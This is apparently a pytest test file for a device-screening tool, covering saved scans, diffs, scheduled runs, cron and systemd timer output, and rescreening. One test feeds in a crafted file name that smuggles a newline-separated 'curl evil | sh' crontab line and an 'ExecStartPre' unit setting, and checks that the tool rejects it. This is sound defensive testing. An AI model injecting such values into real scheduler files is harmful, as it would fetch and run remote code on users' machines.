"""Saved scans over time: `store import`, `diff`, `schedule`, and rescreening after
`lists update`."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from _store_support import axis, hik, relabelled, scan_doc

from entityscan.cli import main
from entityscan.errors import InputError
from entityscan.schedule import (
    Timing,
    cron_line,
    cron_to_oncalendar,
    interval_as_cron,
    parse_interval,
    run_loop,
    systemd_units,
)
from entityscan.screening import ScreeningContext
from entityscan.store import Store

ROOT = Path(__file__).resolve().parent.parent
CSL_SAMPLE = ROOT / "fixtures" / "lists" / "csl_sample.csv"


@pytest.fixture(scope="module")
def ctx() -> ScreeningContext:
    return ScreeningContext.load()


def write(path: Path, doc: dict) -> Path:
    path.write_text(json.dumps(doc, default=str), encoding="utf-8")
    return path


def test_store_import_and_diff_cli(tmp_path: Path, ctx: ScreeningContext,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    a = write(tmp_path / "a.json", scan_doc([axis("ac:cc:8e:00:10:01", "127.60.9.1")], ctx))
    relabel = relabelled("ac:cc:8e:00:10:01", "127.60.9.1", "IMOU", maker="Dahua")
    b = write(tmp_path / "b.json", scan_doc([relabel, hik("44:19:b6:00:10:02", "127.60.9.2")],
                                            ctx))
    assert main(["store", "import", str(a), "--db", db]) == 0
    capsys.readouterr()
    assert main(["store", "import", str(b), "--db", db, "-f", "json"]) == 1
    (report,) = json.loads(capsys.readouterr().out)
    assert report["scan_id"] == 2 and report["diff"]["summary"]["newly_flagged"] == 2
    assert main(["diff", "--db", db, "-f", "json"]) == 1
    diff = json.loads(capsys.readouterr().out)
    assert diff["scan_a"] == 1 and diff["scan_b"] == 2
    assert {d["key"] for d in diff["newly_flagged"]} == {"mac:ac:cc:8e:00:10:01",
                                                          "mac:44:19:b6:00:10:02"}
    assert diff["changed"][0]["changes"]["brand"] == ["Axis", "IMOU"]
    assert main(["diff", "2", "1", "--db", db, "-f", "json"]) == 0  # backwards: nothing new
    assert json.loads(capsys.readouterr().out)["summary"]["gone"] == 1
    assert main(["diff", "7", "--db", db]) == 2
    assert main(["store", "import", str(tmp_path / "missing.json"), "--db", db]) == 2


def test_schedule_runs_a_command_on_an_interval(tmp_path: Path, ctx: ScreeningContext) -> None:
    db = f"sqlite:///{tmp_path / 'sched.db'}"
    doc = write(tmp_path / "site.json", scan_doc([hik("44:19:b6:00:20:01", "127.60.9.3")], ctx))
    run = subprocess.run([sys.executable, "-m", "entityscan", "schedule", "--every", "1s",
                          "--max-runs", "2", "--", "store", "import", str(doc), "--db", db],
                         cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)
    assert run.returncode == 1, run.stderr  # each run found a flagged device
    assert run.stderr.count("with exit code 1") == 2
    with Store(db) as store:
        scans = store.inventory.scans()
        assert len(scans) == 2
        started = sorted(s["received_at"] for s in scans)
        assert started[1] - started[0] >= timedelta(seconds=0.9)
        assert store.inventory.diff(None, scans[0]["id"])["summary"]["new"] == 0


def test_schedule_usage_errors() -> None:
    assert main(["schedule", "--every", "1s"]) == 2
    assert main(["schedule", "--every", "soon", "--", "lists"]) == 2
    assert main(["schedule", "--every", "1h", "--cron", "0 2 * * *", "--", "lists"]) == 2
    assert main(["schedule", "--cron", "61 * * * *", "--", "lists"]) == 2
    assert main(["schedule", "--every", "1h", "--", "serve"]) == 2


def test_interval_and_cron_timing() -> None:
    assert parse_interval("1h30m") == timedelta(minutes=90)
    assert parse_interval("7d") == timedelta(days=7)
    with pytest.raises(InputError, match="number and a unit"):
        parse_interval("24 hours")
    start = datetime(2026, 3, 2, 7, 59, 30, tzinfo=UTC)  # a Monday
    timing = Timing(cron="*/15 8-18 * * 1-5")
    assert timing.next_after(start, None) == datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
    friday_night = datetime(2026, 3, 6, 18, 50, tzinfo=UTC)
    assert timing.next_after(friday_night, None) == datetime(2026, 3, 9, 8, 0, tzinfo=UTC)
    every = Timing(every=timedelta(hours=1))
    assert every.next_after(start, start) == start + timedelta(hours=1)
    late = start + timedelta(hours=2)  # a run overran: the next one starts at once
    assert every.next_after(late, start) == late


def test_run_loop_waits_for_the_cron_slot() -> None:
    now = [datetime(2026, 3, 2, 7, 59, 30, tzinfo=UTC)]
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += timedelta(seconds=seconds)

    codes = run_loop(Timing(cron="0 * * * *"), lambda: 0, max_runs=2, clock=lambda: now[0],
                     sleep=sleep, report=lambda _m: None)
    assert codes == [0, 0] and slept == [30.0, 3600.0]
    slept.clear()
    run_loop(Timing(cron="0 * * * *"), lambda: 1, max_runs=1, run_now=True,
             clock=lambda: now[0], sleep=sleep, report=lambda _m: None)
    assert slept == []


def test_printed_timers() -> None:
    units = systemd_units(Timing(cron="30 2 * * *"), ["scan", "10.1.0.0/24", "--save"])
    assert "OnCalendar=*-*-* 02:30:00" in units and "scan 10.1.0.0/24 --save" in units
    assert "SuccessExitStatus=1" in units and "WantedBy=timers.target" in units
    assert "OnUnitActiveSec=86400s" in systemd_units(Timing(every=timedelta(days=1)), ["usb"])
    assert cron_to_oncalendar("*/15 8-18 * * 1-5") == "Mon..Fri *-*-* 08..18:0/15:00"
    assert cron_to_oncalendar("@weekly") == "weekly"
    with pytest.raises(InputError, match="ORs day-of-month"):
        cron_to_oncalendar("0 0 1 * 1")
    assert interval_as_cron(timedelta(hours=6)) == "0 */6 * * *"
    assert interval_as_cron(timedelta(minutes=15)) == "*/15 * * * *"
    with pytest.raises(InputError, match="cannot be written as a cron"):
        interval_as_cron(timedelta(minutes=7))
    line = cron_line(Timing(every=timedelta(days=1)), ["store", "import", "a%b.json"])
    assert line.splitlines()[1].startswith("0 0 * * * ") and r"a\%b.json" in line


@pytest.mark.parametrize("flag", ["--print-cron", "--print-systemd"])
def test_printed_timers_refuse_injected_lines(flag: str,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """A newline in an argument once wrote a second crontab line / unit setting."""
    evil = "site.json\n* * * * * curl evil | sh\n[Service]\nExecStartPre=/bin/evil"
    assert main(["schedule", "--every", "6h", flag, "--", "store", "import", evil]) == 2
    captured = capsys.readouterr()
    assert "control character" in captured.err and "curl" not in captured.out


def test_printed_timers_quote_what_their_readers_expand() -> None:
    odd = ["store", "import", "site 12 $HOME %i \"quoted\" back\\slash.json"]
    line = cron_line(Timing(every=timedelta(hours=6)), odd).splitlines()[1]
    # cron turns `\%` back into `%` and hands the rest to /bin/sh: the argv comes back whole
    words = shlex.split(line.split(" ", 5)[5].replace("\\%", "%"))
    assert words[-3:] == odd
    units = systemd_units(Timing(every=timedelta(hours=6)), odd)
    exec_start = next(u for u in units.splitlines() if u.startswith("ExecStart="))
    assert exec_start.endswith('store import "site 12 $$HOME %%i \\"quoted\\" '
                               'back\\\\slash.json"')


def test_lists_update_rescreens_the_stored_inventory(tmp_path: Path, ctx: ScreeningContext,
                                                     capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    data = tmp_path / "data"
    monkeypatch.setenv("ENTITYSCAN_DATA_DIR", str(data))
    monkeypatch.delenv("ENTITYSCAN_DB", raising=False)
    device = axis("ac:cc:8e:00:30:01", "127.60.9.4")
    device.brand, device.maker, device.model = "Institute of Fluid Physics", None, None
    doc = write(tmp_path / "lab.json", scan_doc([device], ctx))
    assert main(["store", "import", str(doc)]) == 0  # default store in the data dir
    assert (data / "entityscan.db").exists()
    capsys.readouterr()
    assert main(["lists", "update", "--from", str(CSL_SAMPLE)]) == 0
    out = capsys.readouterr().out
    assert "rescreened 1 stored devices" in out and "1 changed" in out
    with Store(f"sqlite:///{data / 'entityscan.db'}") as store:
        (row,) = store.inventory.devices()
        assert row["verdict"] != "clear"
        audit = store.audit.entries(limit=1)[0]
        assert audit["action"] == "rescreen"
        assert audit["result"]["changed"][0]["before"] == "clear"
    # nothing changes the second time
    assert main(["rescreen", "-f", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["changed"] == []


def test_usb_save_stores_the_fleet_inventory(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'usb.db'}"
    fleet = [str(ROOT / "fixtures" / "lsusb" / name) for name in ("kiosk-7.txt",
                                                                   "reception-pc.txt")]
    code = main(["usb", "--from-lsusb", *fleet, "--save", "--db", db, "-f", "json",
                 "-o", str(tmp_path / "usb.json")])
    assert code == 1  # kiosk-7 has a Hikvision-group webcam and a Huawei modem
    assert "saved as scan 1" in capsys.readouterr().err
    with Store(db) as store:
        (scan,) = store.inventory.scans()
        assert scan["kind"] == "usb" and scan["device_count"] == 4 + 5
        assert store.count("devices") == scan["device_count"]
